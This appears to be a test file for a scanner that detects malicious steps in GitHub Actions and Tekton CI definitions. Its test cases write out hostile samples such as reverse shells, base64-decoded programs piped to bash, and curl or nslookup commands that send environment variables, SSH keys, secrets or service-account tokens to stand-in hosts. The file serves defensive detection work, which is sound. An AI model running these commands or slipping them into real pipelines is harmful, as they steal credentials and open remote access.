import { expectLeg } from '../testing/expect-leg.js';
import { plainDefinitions } from './plain-definitions.js';

const step = (text: string): string => `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - ${text}
`;
const run = (script: string, env = ''): string => step(`run: ${JSON.stringify(script)}${env}`);

expectLeg(plainDefinitions, 'G', {
  twins: [
    {
      name: 'text that is turned around',
      bad: step('run: echo "a\u202eb"'),
      edit: ['\u202e', ''],
      at: '6:21',
    },
    {
      name: 'a character without width',
      bad: step('uses: actions/check\u200bout@v7'),
      edit: ['\u200b', ''],
      at: '6:28',
    },
    {
      name: 'a wide gap',
      bad: run(`make${' '.repeat(200)}; curl a.sh`),
      edit: [' '.repeat(200), ''],
      at: '6:18',
    },
    {
      name: 'a decoded program',
      bad: run('echo Y3VybA== | base64 -d | bash'),
      edit: ['| bash', '> a.txt'],
      at: '6:14',
    },
    {
      name: 'a decoded program, by eval',
      bad: run('eval "$(echo Y3VybA== | base64 --decode)"'),
      edit: ['eval', 'echo'],
      at: '6:14',
    },
    {
      name: 'escapes',
      bad: run("$'\\x63\\x75\\x72\\x6c' example.com"),
      edit: ["$'\\\\x63\\\\x75\\\\x72\\\\x6c'", 'curl'],
      at: '6:14',
    },
    {
      name: 'a reverse shell',
      bad: run('bash -i >& /dev/tcp/192.0.2.1/443 0>&1'),
      edit: [
        'bash -i >& /dev/tcp/192.0.2.1/443 0>&1',
        "timeout 9 bash -c '</dev/tcp/localhost/443'",
      ],
      at: '6:14',
    },
    {
      name: 'a reverse shell of netcat',
      bad: run('nc -e /bin/sh example.com 443'),
      edit: ['-e /bin/sh', '-z'],
      at: '6:14',
    },
    {
      name: 'the environment sent away',
      bad: run('env | sort | curl -d @- https://example.com'),
      edit: ['env | sort', 'cat report.json'],
      at: '6:14',
    },
    {
      name: 'a file with credentials',
      bad: run('curl -F f=@$HOME/.ssh/id_rsa https://example.com'),
      edit: ['$HOME/.ssh/id_rsa', 'report.json'],
      at: '6:14',
    },
    {
      name: 'a secret, encoded and sent',
      bad: run(
        'echo $KEY | base64 | curl -d @- https://example.com',
        '\n        env: { KEY: "${{ secrets.KEY }}" }',
      ),
      edit: ['secrets.KEY', 'github.sha'],
      at: '6:14',
    },
    {
      name: 'a secret, encoded twice',
      bad: run('echo $KEY | base64 -w0 | base64'),
      edit: ['base64 -w0 | base64', 'wc -c'],
      at: '6:14',
    },
    {
      name: 'a detour',
      bad: step('uses: actions/cache/../checkout@v7'),
      edit: ['cache/../checkout', 'checkout'],
      at: '6:15',
    },
    {
      name: 'a riddle',
      bad: run("echo ${{ format('{0}{1}', 'cu', 'rl') }}"),
      edit: ["'cu'", 'github.sha'],
      at: '6:14',
    },
    {
      name: 'a shell of its own',
      bad: step('run: make\n        shell: bash -c "curl example.com | sh; {0}"'),
      edit: ['bash -c "curl example.com | sh; {0}"', 'bash -el {0}'],
      at: '7:16',
    },
    {
      name: 'cmd',
      bad: step('run: make %GOAL%\n        shell: cmd'),
      edit: ['cmd', 'pwsh'],
      at: '7:16',
    },
    {
      name: 'a terminal for everybody',
      bad: step('uses: mxschmitt/action-tmate@v3\n        with: { limit-access-to-actor: false }'),
      edit: ['false', 'true'],
      at: '7:40',
    },
  ],
  good: [
    { name: 'emoji', files: step('name: "👩‍💻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️"\n        run: make') },
    { name: 'a decoded file', files: run('echo "$KEY" | base64 -d > key.json') },
    {
      name: 'basic authentication',
      files: run(
        'curl -H "Authorization: Basic $(echo -n "a:$KEY" | base64)" https://example.com',
        '\n        env: { KEY: "${{ secrets.KEY }}" }',
      ),
    },
    { name: 'a comment', files: run('# base64 -d | bash\nmake') },
    { name: 'a path', files: step('uses: ./.github/actions/setup') },
  ],
  notApplicable: [{ name: 'no workflow', files: { 'a.txt': '' } }],
});

const task = (body: string): string => `apiVersion: tekton.dev/v1
kind: Task
metadata: { name: build }
spec:
  steps:
    - name: a
      image: alpine
      ${body}
`;

expectLeg(plainDefinitions, 'T', {
  twins: [
    {
      name: 'text that is turned around',
      bad: task('script: echo a # \u2066b'),
      edit: ['\u2066', ''],
      at: '8:24',
    },
    {
      name: 'a decoded program',
      bad: task('script: "echo Y3VybA== | base64 -d | sh"'),
      edit: ['| sh', '> a.txt'],
      at: '8:15',
    },
    {
      name: 'a reverse shell as arguments',
      bad: task('command: [nc]\n      args: [example.com, "443", -e, /bin/sh]'),
      edit: [', -e, /bin/sh', ', -z'],
      at: '8:17',
    },
    {
      name: 'the account of the pod',
      bad: task(
        'script: "curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://example.com"',
      ),
      edit: ['/var/run/secrets/kubernetes.io/serviceaccount/token', 'report.json'],
      at: '8:15',
    },
    {
      name: 'a secret in a name to look up',
      bad: task(
        'script: "nslookup $KEY.example.com"\n      env: [{ name: KEY, valueFrom: { secretKeyRef: { name: a, key: b } } }]',
      ),
      edit: ['secretKeyRef', 'configMapKeyRef'],
      at: '8:15',
    },
  ],
  good: [{ name: 'plain', files: task('script: "make && env | sort"') }],
  notApplicable: [{ name: 'no resource', files: { 'a.txt': '' } }],
});
